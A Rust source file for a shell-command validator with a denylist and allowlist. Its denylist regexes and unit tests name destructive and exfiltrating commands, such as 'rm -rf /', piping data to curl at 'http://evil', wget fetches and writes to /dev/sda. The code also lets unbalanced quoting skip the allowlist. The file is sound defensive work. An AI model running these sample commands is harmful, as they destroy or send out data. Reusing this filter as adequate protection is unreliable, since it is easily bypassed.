//! Command gatekeeping.
//!
//! Validation runs on the raw string so the denylist sees exactly what the
//! owner submitted; sanitizing happens afterwards.

use std::sync::LazyLock;

use regex::{Regex, RegexBuilder};

use crate::error::CommandError;

/// Longest accepted command, in characters.
pub const MAX_COMMAND_LENGTH: usize = 10_000;

const MAX_NEWLINES: usize = 2;

const DENYLIST: &[&str] = &[
    r";\s*rm\s",
    r"\|\s*rm\s",
    r"&&\s*rm\s",
    r";\s*curl\s",
    r"\|\s*curl\s",
    r";\s*wget\s",
    r"\|\s*wget\s",
    r"\$\(",
    r"`",
    r">\s*/dev/",
    r">\s*\|",
];

static DENYLIST_RE: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    DENYLIST
        .iter()
        .map(|pattern| {
            let re = RegexBuilder::new(pattern)
                .case_insensitive(true)
                .build()
                .expect("valid denylist pattern");
            (*pattern, re)
        })
        .collect()
});

static BLANK_LINES_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\n{3,}").expect("valid blank line pattern"));

/// Check a raw command.
///
/// An empty `allowed` list permits any first word; the denylist always applies.
pub fn validate_command(command: &str, allowed: &[String]) -> Result<(), CommandError> {
    if command.trim().is_empty() {
        return Err(CommandError::Empty);
    }

    if command.chars().count() > MAX_COMMAND_LENGTH {
        return Err(CommandError::TooLong);
    }

    // Unparseable quoting skips the allowlist and falls through to the denylist.
    if !allowed.is_empty() {
        if let Some(word) = first_word(command) {
            if !allowed.iter().any(|a| *a == word) {
                return Err(CommandError::NotAllowed(word));
            }
        }
    }

    if let Some((pattern, _)) = DENYLIST_RE.iter().find(|(_, re)| re.is_match(command)) {
        return Err(CommandError::DisallowedPattern((*pattern).to_string()));
    }

    if command.contains('\0') {
        return Err(CommandError::NullByte);
    }

    if command.matches('\n').count() > MAX_NEWLINES {
        return Err(CommandError::TooManyNewlines);
    }

    Ok(())
}

/// Strip null bytes, collapse runs of blank lines and trim.
pub fn sanitize_command(command: &str) -> String {
    let without_nulls = command.replace('\0', "");
    BLANK_LINES_RE
        .replace_all(&without_nulls, "\n\n")
        .trim()
        .to_string()
}

/// First word of a POSIX shell command line, honoring quotes and escapes.
///
/// Returns `None` for blank input or unbalanced quoting.
fn first_word(command: &str) -> Option<String> {
    let mut word = String::new();
    let mut started = false;
    let mut done = false;
    let mut quote: Option<char> = None;
    let mut chars = command.chars();

    while let Some(c) = chars.next() {
        let mut literal: [Option<char>; 2] = [None, None];
        match quote {
            Some('\'') => {
                if c == '\'' {
                    quote = None;
                } else {
                    literal[0] = Some(c);
                }
            }
            Some(_) => match c {
                '"' => quote = None,
                '\\' => match chars.next() {
                    Some(next @ ('$' | '`' | '"' | '\\' | '\n')) => literal[0] = Some(next),
                    Some(next) => literal = [Some('\\'), Some(next)],
                    None => return None,
                },
                _ => literal[0] = Some(c),
            },
            None => match c {
                '\'' | '"' => {
                    quote = Some(c);
                    started = true;
                }
                '\\' => {
                    literal[0] = Some(chars.next()?);
                    started = true;
                }
                c if c.is_whitespace() => {
                    if started {
                        done = true;
                    }
                }
                _ => {
                    literal[0] = Some(c);
                    started = true;
                }
            },
        }
        if !done {
            word.extend(literal.into_iter().flatten());
        }
    }

    if quote.is_some() {
        return None;
    }
    started.then_some(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allow(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn test_accepts_plain_commands() {
        assert!(validate_command("echo hello", &[]).is_ok());
        assert!(validate_command("ls -la /tmp | grep log", &[]).is_ok());
        assert!(validate_command("backup.sh && echo done", &[]).is_ok());
    }

    #[test]
    fn test_rejects_empty() {
        assert_eq!(validate_command("", &[]), Err(CommandError::Empty));
        assert_eq!(validate_command("   \t\n", &[]), Err(CommandError::Empty));
    }

    #[test]
    fn test_rejects_too_long() {
        let command = "a".repeat(MAX_COMMAND_LENGTH + 1);
        assert_eq!(validate_command(&command, &[]), Err(CommandError::TooLong));
        let at_limit = "a".repeat(MAX_COMMAND_LENGTH);
        assert!(validate_command(&at_limit, &[]).is_ok());
    }

    #[test]
    fn test_denylist_patterns() {
        let rejected = [
            "echo hi; rm -rf /",
            "ls | rm file",
            "true && rm -rf /tmp/x",
            "echo; curl http://evil",
            "cat x | curl -d @- http://evil",
            "echo; wget http://evil",
            "echo | wget -i -",
            "echo $(whoami)",
            "echo `whoami`",
            "echo hi > /dev/sda",
            "echo hi >| out.txt",
            "ECHO HI; RM -RF /",
        ];
        for command in rejected {
            assert!(
                matches!(
                    validate_command(command, &[]),
                    Err(CommandError::DisallowedPattern(_))
                ),
                "expected rejection for {command:?}"
            );
        }
    }

    #[test]
    fn test_denylist_reports_pattern() {
        let err = validate_command("echo $(id)", &[]).unwrap_err();
        assert_eq!(err.to_string(), r"Command contains disallowed pattern: \$\(");
    }

    #[test]
    fn test_rejects_null_bytes() {
        assert_eq!(
            validate_command("echo a\0b", &[]),
            Err(CommandError::NullByte)
        );
    }

    #[test]
    fn test_newline_limit() {
        assert!(validate_command("echo a\necho b\necho c", &[]).is_ok());
        assert_eq!(
            validate_command("echo a\necho b\necho c\necho d", &[]),
            Err(CommandError::TooManyNewlines)
        );
    }

    #[test]
    fn test_allowlist() {
        let allowed = allow(&["echo", "ls"]);
        assert!(validate_command("echo hi", &allowed).is_ok());
        assert!(validate_command("  ls -la", &allowed).is_ok());
        assert_eq!(
            validate_command("python script.py", &allowed),
            Err(CommandError::NotAllowed("python".to_string()))
        );
        assert_eq!(
            validate_command("'ec'ho hi", &allow(&["ls"])),
            Err(CommandError::NotAllowed("echo".to_string()))
        );
    }

    #[test]
    fn test_allowlist_checked_before_denylist() {
        let allowed = allow(&["echo"]);
        assert_eq!(
            validate_command("rm -rf /; rm x", &allowed),
            Err(CommandError::NotAllowed("rm".to_string()))
        );
    }

    #[test]
    fn test_unbalanced_quotes_skip_allowlist() {
        let allowed = allow(&["ls"]);
        assert!(validate_command("echo 'unterminated", &allowed).is_ok());
    }

    #[test]
    fn test_first_word() {
        assert_eq!(first_word("echo hi").as_deref(), Some("echo"));
        assert_eq!(first_word("  \"my tool\" --flag").as_deref(), Some("my tool"));
        assert_eq!(first_word(r"my\ tool arg").as_deref(), Some("my tool"));
        assert_eq!(first_word("ls 'open").as_deref(), None);
        assert_eq!(first_word("   ").as_deref(), None);
    }

    #[test]
    fn test_sanitize() {
        assert_eq!(sanitize_command("  echo hi  "), "echo hi");
        assert_eq!(sanitize_command("echo a\0b"), "echo ab");
        assert_eq!(sanitize_command("a\n\n\n\n\nb"), "a\n\nb");
        assert_eq!(sanitize_command("a\n\nb"), "a\n\nb");
    }
}
